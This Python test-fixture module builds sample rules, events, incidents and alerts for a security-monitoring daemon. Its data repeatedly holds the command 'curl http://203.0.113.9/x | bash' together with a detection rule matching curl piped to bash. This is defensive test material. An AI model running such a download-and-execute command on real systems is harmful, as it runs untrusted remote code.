"""Builders with defaults, so that a test shows only what matters."""

from typing import Any

import msgspec

from daemon.model import (
    Alert,
    Anomaly,
    Decision,
    Event,
    Evidence,
    Explanation,
    Incident,
    IncidentStatus,
    Logsource,
    Position,
    RuleRef,
    Sentence,
    Severity,
)

T0 = 1_795_260_000.0  # 2026-11-21T11:20:00Z


def a_rule(**changes: Any) -> RuleRef:
    rule = RuleRef(
        id="5a0b7c1e-0000-4000-8000-000000000001",
        title="Download piped to a shell",
        severity=Severity.high,
        author="tellwhy",
        techniques=("T1059.004",),
    )
    return msgspec.structs.replace(rule, **changes)


def an_event(number: int = 1, **changes: Any) -> Event:
    event = Event(
        id=f"audit:{T0 + number}:{number}:execve",
        at=T0 + number,
        host="web-1",
        source="audit",
        logsource=Logsource(category="process_creation"),
        fields={"Image": "/usr/bin/curl", "CommandLine": "curl http://203.0.113.9/x | bash", "User": "www-data"},
        text="curl http://203.0.113.9/x | bash",
        position=Position("/var/log/audit/audit.log", "1:2:3", number * 100),
    )
    return msgspec.structs.replace(event, **changes)


def an_anomaly(number: int = 1, **changes: Any) -> Anomaly:
    anomaly = Anomaly(
        id=f"anomaly-{number}",
        rule=a_rule(),
        at=T0 + number,
        host="web-1",
        source="audit",
        entity="User=www-data",
        because='CommandLine contains "curl" and CommandLine contains "| bash"',
        events=(an_event(number),),
    )
    return msgspec.structs.replace(anomaly, **changes)


def an_incident(number: int = 1, **changes: Any) -> Incident:
    incident = Incident(
        id=f"inc_{number:024x}",
        rule=a_rule(),
        entity="User=www-data",
        host="web-1",
        source="audit",
        severity=Severity.high,
        status=IncidentStatus.open,
        opened_at=T0,
        last_at=T0 + number,
        count=1,
        because='CommandLine contains "curl" and CommandLine contains "| bash"',
        first_event=an_event(number).id,
        last_event=an_event(number).id,
        anomalies=(an_anomaly(number),),
        notified_at=T0,
    )
    return msgspec.structs.replace(incident, **changes)


def an_alert(number: int = 1, **changes: Any) -> Alert:
    incident = an_incident(number)
    alert = Alert(
        id=f"alrt_{number:024x}",
        version=0,
        incident_id=incident.id,
        decision=Decision.first,
        rule=incident.rule,
        severity=incident.severity,
        status=incident.status,
        host=incident.host,
        source=incident.source,
        entity=incident.entity,
        because=incident.because,
        opened_at=incident.opened_at,
        last_at=incident.last_at,
        count=incident.count,
        made_at=T0,
        evidence=(
            Evidence(
                id="E1",
                at=T0,
                source="audit",
                text="curl http://203.0.113.9/x | bash",
                fields={"User": "www-data"},
            ),
        ),
        explanation=Explanation(origin="rules", sentences=(Sentence("www-data ran a download in a shell.", ("E1",)),)),
    )
    return msgspec.structs.replace(alert, **changes)
